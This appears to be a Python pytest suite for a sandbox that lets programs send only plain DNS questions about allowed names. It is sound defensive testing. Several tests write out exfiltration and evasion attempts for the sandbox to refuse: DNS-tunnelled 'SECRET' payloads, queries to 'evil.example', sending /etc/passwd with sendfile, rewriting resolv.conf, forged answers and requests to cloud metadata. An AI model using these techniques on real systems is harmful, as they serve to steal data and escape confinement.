"""Programs that speak DNS themselves. Plain questions about allowed names reach the system's name
server, and nothing else does. The addresses in its answers may then be reached."""

from __future__ import annotations

import shutil
import socket
import struct
from pathlib import Path

import pytest

from tests.attacks.sinks import ALLOWED, OUTSIDE, RESOLVER
from tests.contract.lookups import (
    ALLOWED_NAME,
    REPORTS,
    Runner,
    namespaces,
    packet,
    python,
    runner,
)

pytestmark = pytest.mark.skipif(not namespaces(), reason="no network namespaces here")


@pytest.fixture
def run(tmp_path: Path) -> Runner:
    return runner(tmp_path)


TRY = f"""
import socket, struct
RESOLVER = ({RESOLVER!r}, 53)
def reach(host):
    out = socket.socket()
    out.settimeout(20)
    try:
        out.connect((host, 443))
        print(host, "reached")
    except PermissionError:
        print(host, "refused")
    finally:
        out.close()
"""

DNSPYTHON = """
import dns.resolver
for name in {names!r}:
    try:
        for found in dns.resolver.resolve(name, {kind!r}):
            print(name, found)
    except Exception as error:
        print(name, type(error).__name__)
"""


def test_dnspython_asks_for_allowed_names_and_reaches_them(run: Runner) -> None:
    code = (
        DNSPYTHON.format(names=["api.allowed.example", "alias.allowed.example"], kind="A")
        + TRY
        + f"reach({ALLOWED!r})"
    )
    result = python(run, code)
    assert result.lines == [
        f"api.allowed.example {ALLOWED}",
        f"alias.allowed.example {ALLOWED}",
        f"{ALLOWED} reached",
    ]
    assert result.heard == [ALLOWED]
    assert result.violations == []


def test_dnspython_asks_for_no_other_name(run: Runner) -> None:
    result = python(run, DNSPYTHON.format(names=["secret.evil.example"], kind="A"))
    assert result.asked == []
    assert [event["details"]["host"] for event in result.violations][:1] == ["secret.evil.example"]
    assert result.violations[0]["reason"] == "no_rule"


QUERIES = {
    "res_query": "libc.res_query(name, 1, 1, answer, 512)",
    "res_search": "libc.res_search(name, 1, 1, answer, 512)",
    "res_querydomain": "libc.res_querydomain(b'api', b'allowed.example', 1, 1, answer, 512)",
    "res_send": "libc.res_send(packet, len(packet), answer, 512)",
}


@pytest.mark.parametrize("how", QUERIES.values(), ids=QUERIES)
def test_answers_of_the_resolvers_own_functions(run: Runner, how: str) -> None:
    code = (
        TRY + "import ctypes\n"
        "libc, answer = ctypes.CDLL('libc.so.6'), ctypes.create_string_buffer(512)\n"
        f"name, packet = {ALLOWED_NAME.encode()!r}, {packet(ALLOWED_NAME)!r}\n"
        f"print({how} > 12, socket.inet_aton({ALLOWED!r}) in answer.raw)\n"
        f"reach({ALLOWED!r})\n"
    )
    result = python(run, code)
    assert result.lines == ["True True", f"{ALLOWED} reached"], result.stderr


def test_text_of_an_allowed_name(run: Runner) -> None:
    result = python(run, DNSPYTHON.format(names=["text.allowed.example"], kind="TXT"))
    assert result.lines == ['text.allowed.example "hello"']


def test_without_a_look_up_the_address_is_nobodys(run: Runner) -> None:
    result = python(run, TRY + f"reach({ALLOWED!r})")
    assert result.lines == [f"{ALLOWED} refused"]
    assert result.heard == []


ASYNCIO = f"""
import asyncio
class Asks(asyncio.DatagramProtocol):
    def connection_made(self, transport):
        transport.sendto({packet("api.allowed.example")!r})
    def datagram_received(self, data, address):
        print(data[:2].hex()); done.set_result(None)
async def main():
    global done
    loop = asyncio.get_running_loop()
    done = loop.create_future()
    await loop.create_datagram_endpoint(Asks, remote_addr=({RESOLVER!r}, 53))
    await asyncio.wait_for(done, 5)
asyncio.run(main())
"""


def test_asyncio(run: Runner) -> None:
    result = python(run, ASYNCIO + TRY + f"reach({ALLOWED!r})")
    assert result.lines == ["0007", f"{ALLOWED} reached"]


SENDS = {
    "sendto": "out.sendto(packet, RESOLVER)",
    "send": "out.connect(RESOLVER); out.send(packet)",
    "write": "out.connect(RESOLVER); os.write(out.fileno(), packet)",
    "writev": "out.connect(RESOLVER); os.writev(out.fileno(), [packet[:9], packet[9:]])",
    "sendmsg": "out.sendmsg([packet], [], 0, RESOLVER)",
    "sendmsg, connected": "out.connect(RESOLVER); out.sendmsg([packet[:3], packet[3:]])",
    "a second fd": "out = out.dup(); out.connect(RESOLVER); out.send(packet)",
}
SEND = """
import os
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.settimeout(20)
packet = {packet!r}
try:
    {how}
    print("sent")
    out.{receive}
except PermissionError:
    print("refused")
"""


WAYS = [(how, "recv(512)") for how in SENDS.values()]
WAYS += [
    (SENDS["sendto"], how) for how in ("recvfrom(512)", "recv_into(bytearray(512))", "recvmsg(512)")
]


@pytest.mark.parametrize(("how", "receive"), WAYS)
def test_every_way_to_ask(run: Runner, how: str, receive: str) -> None:
    code = (
        TRY
        + SEND.format(packet=packet("api.allowed.example"), how=how, receive=receive)
        + f"reach({ALLOWED!r})"
    )
    result = python(run, code)
    assert result.lines == ["sent", f"{ALLOWED} reached"], result.stderr
    assert result.asked == [packet("api.allowed.example")]


@pytest.mark.parametrize("how", SENDS.values(), ids=SENDS)
def test_no_way_to_ask_for_another_name(run: Runner, how: str) -> None:
    code = TRY + SEND.format(packet=packet("secret.evil.example"), how=how, receive="recv(512)")
    result = python(run, code)
    assert result.lines == ["refused"], result.stderr
    assert result.asked == []
    assert [event["details"]["host"] for event in result.violations] == ["secret.evil.example"]


OPT = b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
COOKIE = b"\0" + struct.pack(">HHIHHH", 41, 1232, 0, 12, 10, 8) + b"SECRETS!"
MALFORMED = {
    "bytes after the question": packet(ALLOWED_NAME, more=b"SECRET"),
    "bytes after the OPT record": packet(ALLOWED_NAME, more=OPT + b"SECRET", records=1),
    "an unknown EDNS option": packet(
        ALLOWED_NAME, more=OPT[:-2] + struct.pack(">3H", 10, 65001, 6) + b"SECRET", records=1
    ),
    "a second option after a cookie": packet(
        ALLOWED_NAME,
        more=OPT[:-2]
        + struct.pack(">3H", 22, 10, 8)
        + b"SECRETS!"
        + struct.pack(">2H", 65001, 6)
        + b"SECRET",
        records=1,
    ),
    "another record": packet(
        ALLOWED_NAME, more=b"\0" + struct.pack(">HHIH", 16, 1, 0, 6) + b"SECRET", records=1
    ),
    "two questions": (
        packet(ALLOWED_NAME)[:4]
        + b"\0\2"
        + packet(ALLOWED_NAME)[6:]
        + packet("a.evil.example")[12:]
    ),
    "an update": packet(ALLOWED_NAME, flags=0x2800),
    "an answer": packet(ALLOWED_NAME, flags=0x8180),
    "reserved header bits": packet(ALLOWED_NAME, flags=0x010F),
    "another class": packet(ALLOWED_NAME)[:-2] + b"\0\3",
    "a zone transfer": packet(ALLOWED_NAME, kind=252),
    "a type that nobody knows": packet(ALLOWED_NAME, kind=0x5345),
    "no question at all": b"SECRET" * 8,
    "nothing": b"",
    "a name in a pointer": packet(ALLOWED_NAME)[:12] + b"\xc0\x0c\0\1\0\1",
    "more than any question": packet(ALLOWED_NAME) + bytes(600),
}


@pytest.mark.parametrize("query", MALFORMED.values(), ids=MALFORMED)
def test_nothing_but_plain_questions(run: Runner, query: bytes) -> None:
    result = python(run, TRY + SEND.format(packet=query, how=SENDS["sendto"], receive="recv(512)"))
    assert result.lines == ["refused"]
    assert result.asked == []
    assert result.violations[0]["reason"] == "malformed"


def test_a_cookie_stays_here(run: Runner) -> None:
    query = packet(ALLOWED_NAME, more=COOKIE, records=1)
    result = python(run, TRY + SEND.format(packet=query, how=SENDS["sendto"], receive="recv(512)"))
    assert result.lines == ["sent"]
    assert result.asked == [packet(ALLOWED_NAME, more=OPT, records=1)]


BEYOND = "out.sendto(b'SECRET', ('127.0.0.1', 9))"
HELD_BACK = {
    "MSG_MORE": "out.sendto({question!r}, socket.MSG_MORE, RESOLVER); " + BEYOND,
    "UDP_CORK": (
        "out.setsockopt(17, 1, 1); out.sendto({question!r}, RESOLVER); "
        + BEYOND
        + "; out.setsockopt(17, 1, 0)"
    ),
    "another name server": "out.sendto({question!r}, ({outside!r}, 53))",
    "a control message": "out.sendmsg([{question!r}], [(17, 103, b'\\x14\\0')], 0, RESOLVER)",
    "sendfile": "out.connect(RESOLVER); os.sendfile(out.fileno(), os.open('/etc/passwd', 0), 0, 6)",
    "a copy of a connected socket": "out.connect(RESOLVER); os.dup(out.fileno())",
    "the server's own address": "out.bind(RESOLVER)",
    "TCP": "out = socket.socket(); out.connect(RESOLVER)",
    "fast open": "out = socket.socket(); out.sendto({question!r}, socket.MSG_FASTOPEN, RESOLVER)",
}


@pytest.mark.parametrize("how", HELD_BACK.values(), ids=HELD_BACK)
def test_ways_around_the_reader(run: Runner, how: str) -> None:
    how = how.format(question=packet(ALLOWED_NAME), outside=OUTSIDE)
    result = python(run, TRY + SEND.format(packet=b"", how=how, receive="recv(512)"))
    assert result.lines == ["refused"], result.stderr
    assert (result.asked, result.tcp) == ([], [])
    assert result.violations != []


def test_an_inherited_socket_is_read_in_the_child(run: Runner) -> None:
    child = f"import os, sys; os.write(int(sys.argv[1]), {packet('secret.evil.example')!r})"
    code = (
        TRY + "import os, subprocess, sys\n"
        "out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); out.connect(RESOLVER)\n"
        f"command = [sys.executable, '-c', {child!r}, str(out.fileno())]\n"
        "done = subprocess.run(command, pass_fds=[out.fileno()], stderr=subprocess.DEVNULL)\n"
        "print(done.returncode)\n"
    )
    result = python(run, code)
    assert result.lines == ["1"]
    assert result.asked == []


def test_what_a_name_cannot_stand_for(run: Runner) -> None:
    code = DNSPYTHON.format(names=["metadata.allowed.example", "local.allowed.example"], kind="A")
    code += (
        "import socket\nsocket.getaddrinfo('metadata.allowed.example', 443)\n"
        + TRY
        + "reach('169.254.169.254')"
    )
    result = python(run, code)
    assert result.lines[-1] == "169.254.169.254 refused"
    assert result.heard == []


def test_records_of_other_names_are_not_learnt(run: Runner) -> None:
    code = (
        DNSPYTHON.format(names=["beside.allowed.example"], kind="A")
        + TRY
        + f"reach('127.66.66.70'); reach({OUTSIDE!r})"
    )
    result = python(run, code)
    assert result.lines[-2:] == ["127.66.66.70 reached", f"{OUTSIDE} refused"]


def test_an_answer_of_somebody_else_is_not_learnt(run: Runner) -> None:
    """The forger knows id, question and port, and his datagram is first in the queue."""
    forged = packet(ALLOWED_NAME)[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + packet(ALLOWED_NAME)[12:]
    forged += b"\xc0\x0c\0\1\0\1\0\0\x0e\x10\0\4" + socket.inet_aton(OUTSIDE)
    code = (
        TRY + "out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); out.bind(('127.0.0.1', 0))\n"
        "forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"forger.sendto({forged!r}, out.getsockname())\n"
        f"out.sendto({packet(ALLOWED_NAME)!r}, RESOLVER)\n"
        "print(out.recvfrom(512)[1][0]); print(out.recvfrom(512)[1][0])\n"
        f"reach({OUTSIDE!r})\n"
    )
    result = python(run, code)
    assert result.lines == ["127.0.0.1", RESOLVER, f"{OUTSIDE} refused"]


NODE = """
const dns = require('dns'), net = require('net');
dns.resolve4(process.argv[1], (error, found) => {
    console.log(error ? error.code : found.join());
    if (error) return;
    const out = net.connect(443, found[0], () => { console.log('reached'); out.destroy(); });
    out.on('error', (problem) => console.log(problem.code));
});
"""


@pytest.mark.skipif(shutil.which("node") is None, reason="no node here")
@pytest.mark.parametrize("name", ["api.allowed.example", "alias.allowed.example"])
def test_node_asks_for_allowed_names(run: Runner, name: str) -> None:
    result = run("node", "-e", NODE, name)
    assert result.lines == [ALLOWED, "reached"]
    assert result.violations == []


@pytest.mark.skipif(shutil.which("node") is None, reason="no node here")
def test_node_asks_for_no_other_name(run: Runner) -> None:
    result = run("node", "-e", NODE, "secret.evil.example")
    assert len(result.lines) == 1
    assert result.asked == []
    assert result.violations[0]["details"]["host"] == "secret.evil.example"


def test_alert_changes_nothing_and_tells_each_once(run: Runner) -> None:
    query = packet("secret.evil.example", more=COOKIE, records=1)
    code = (
        TRY
        + SEND.format(packet=query, how=SENDS["send"], receive="recv(512)")
        + f"reach({OUTSIDE!r})"
    )
    bare, result = python(run, code, guarded=False), python(run, code, policy=REPORTS)
    assert result.lines == bare.lines == ["sent", f"{OUTSIDE} reached"]
    assert result.asked == bare.asked == [query]
    # The question names no port. The connection is therefore a separate act, whose event has the
    # port.
    assert [
        (event["details"]["host"], event["details"]["port"]) for event in result.violations
    ] == [
        ("secret.evil.example", None),
        ("secret.evil.example", 443),
    ]


CHANGED = f"open('/etc/resolv.conf', 'w').write('nameserver {OUTSIDE}\\n')\n"


def test_another_server_in_the_file_is_not_asked(run: Runner) -> None:
    """The function can write to resolv.conf. Only the servers at the start count, and libc must ask
    no other either."""
    code = TRY + CHANGED + "socket.getaddrinfo('api.allowed.example', 443)"
    result = python(run, code)
    assert "Non-recoverable failure in name resolution" in result.stderr
    assert [
        event["message"].split(":")[0].split(" tried to ")[1] for event in result.violations
    ] == ["ask another name server (dns)"]


def test_a_child_has_the_servers_of_the_start(run: Runner) -> None:
    send = (
        f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({packet(ALLOWED_NAME)!r}, (host,"
        " 53)); print('sent')"
    )
    child = (
        "import socket\n"
        f"for host in ({OUTSIDE!r}, {RESOLVER!r}):\n"
        f"    try: {send}\n"
        "    except PermissionError: print('refused')\n"
    )
    code = (
        CHANGED
        + f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {child!r}], check=True)"
    )
    result = python(run, code)
    assert result.lines == ["refused", "sent"], result.stderr


def test_a_probe_of_the_own_address_sends_nothing(run: Runner) -> None:
    """c-ares does this to sort addresses: through libc, it connects a UDP socket to port 0 of an
    allowed host."""
    code = (
        TRY + "import ctypes\n"
        "socket.getaddrinfo('api.allowed.example', 443)\n"
        "libc = ctypes.CDLL('libc.so.6', use_errno=True)\n"
        "def probe(host):\n"
        "    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    to = struct.pack('=HH4s8x', socket.AF_INET, 0, socket.inet_aton(host))\n"
        "    print(libc.connect(out.fileno(), to, 16), libc.send(out.fileno(), b'SECRET', 6, 0))\n"
        f"probe({ALLOWED!r}); probe({OUTSIDE!r})\n"
    )
    result = python(run, code)
    assert result.lines == ["0 -1", "-1 -1"], result.stderr
    assert [event["details"]["ip"] for event in result.violations] == [OUTSIDE]
